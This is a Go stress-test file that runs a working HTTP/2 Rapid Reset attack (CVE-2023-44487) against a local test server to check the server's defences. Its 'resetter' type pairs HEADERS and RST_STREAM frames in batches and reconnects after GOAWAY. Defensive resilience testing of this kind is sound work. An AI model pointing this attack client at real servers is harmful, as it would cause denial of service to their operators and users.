package stress

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"testing"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Rapid Reset (CVE-2023-44487): a client opens streams and takes them back at
// once, so that they never count against the limit of concurrent ones, while their
// handlers run on.
const (
	resetStreams = 20_000
	// resetConns bounds how often the attacker connects again when the server
	// has told it to go.
	resetConns = 400
	// resetBatch is how many streams go out in one write.
	resetBatch = 50
)

// TestRapidReset opens and resets streams, with handlers that do not notice.
// On no connection may more of them run than streams are allowed, and the
// server must serve another client all the time.
func TestRapidReset(t *testing.T) {
	grpcFields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "localhost"},
		{Name: ":path", Value: "/muxserve.demo.v1.Echo/BidiStream"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
		{Name: "user-agent", Value: "grpc-go/1.85.0"},
	}
	tests := []struct {
		name   string
		shared bool
		fields []hpack.HeaderField
	}{
		{"HTTP/2", false, []hpack.HeaderField{
			{Name: ":method", Value: "GET"},
			{Name: ":scheme", Value: "http"},
			{Name: ":authority", Value: "localhost"},
			{Name: ":path", Value: "/stubborn"},
		}},
		{"gRPC, native", false, grpcFields},
		{"gRPC, shared", true, grpcFields},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := newVictim(t, tt.shared)
			attack := resetter{addr: v.addr, fields: tt.fields}
			others := ask(t, v.addr, false, func() { attack.run(t.Context(), resetStreams) })
			v.waitIdle(t)
			calls, err := v.callOnce(t.Context())
			if err != nil {
				t.Errorf("a call after the attack: %v", err)
			}
			t.Logf("%d streams on %d connections (%s) started %d handlers, at most %d at once on a connection; another client: %d requests, p99 %v; %d calls",
				attack.streams, attack.conns, attack.ends(), v.handlers.started(), v.handlers.most(), others.answered, others.p99(), calls)
			if most := v.handlers.most(); most > maxStreams {
				t.Errorf("%d handlers ran at once, want at most %d", most, maxStreams)
			}
			if v.handlers.started() == 0 {
				t.Error("no handler was started; the attack has missed")
			}
			if attack.streams < resetStreams {
				t.Errorf("only %d streams were opened: %v", attack.streams, attack.err)
			}
			for _, err := range others.errs {
				t.Errorf("the other client: %v", err)
			}
		})
	}
}

// resetter is the attacker.
type resetter struct {
	addr   string
	fields []hpack.HeaderField

	streams, conns int
	goAways        map[http2.ErrCode]int
	err            error
}

// ends says how the connections ended.
func (r *resetter) ends() string {
	if len(r.goAways) == 0 {
		return "no GOAWAY"
	}
	return fmt.Sprintf("GOAWAY: %v", r.goAways)
}

// run opens and resets n streams, and connects again as often as need be.
func (r *resetter) run(ctx context.Context, n int) {
	r.goAways = make(map[http2.ErrCode]int)
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	for r.streams < n && r.conns < resetConns && ctx.Err() == nil {
		r.conns++
		if err := r.connection(ctx, n-r.streams); err != nil {
			r.err = err
		}
	}
}

// connection attacks over one connection, with at most n streams.
func (r *resetter) connection(ctx context.Context, n int) error {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", r.addr)
	if err != nil {
		return err
	}
	defer conn.Close()
	if deadline, ok := ctx.Deadline(); ok {
		conn.SetDeadline(deadline)
	}
	ended := make(chan http2.ErrCode, 1)
	told := make(chan struct{})
	go func() { ended <- readToEnd(conn, told) }()
	err = r.reset(conn, n, told)
	if err == nil {
		// What was sent is to be heard, so the end comes in order.
		err = conn.(*net.TCPConn).CloseWrite()
	}
	if code := <-ended; code != http2.ErrCodeNo {
		r.goAways[code]++
	}
	return err
}

// reset writes n pairs of HEADERS and RST_STREAM, or as many as it can until it
// is told to go.
func (r *resetter) reset(conn net.Conn, n int, told <-chan struct{}) error {
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(&out, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for i := range n {
		block.Reset()
		for _, field := range r.fields {
			if err := encoder.WriteField(field); err != nil {
				return err
			}
		}
		stream := uint32(2*i + 1) // RFC 9113, section 5.1.1.
		headers := http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true}
		if err := errors.Join(framer.WriteHeaders(headers), framer.WriteRSTStream(stream, http2.ErrCodeCancel)); err != nil {
			return err
		}
		r.streams++
		if (i+1)%resetBatch == 0 || i == n-1 {
			if _, err := out.WriteTo(conn); err != nil {
				return err
			}
			select {
			case <-told:
				return nil
			default:
			}
		}
	}
	return nil
}

// readToEnd reads what the server says and returns the error of its last
// GOAWAY. It closes told at the first.
func readToEnd(conn io.Reader, told chan<- struct{}) http2.ErrCode {
	framer := http2.NewFramer(io.Discard, conn)
	code := http2.ErrCodeNo
	for first := true; ; {
		frame, err := framer.ReadFrame()
		if err != nil {
			return code
		}
		if goAway, ok := frame.(*http2.GoAwayFrame); ok {
			code = goAway.ErrCode
			if first {
				close(told)
			}
			first = false
		}
	}
}
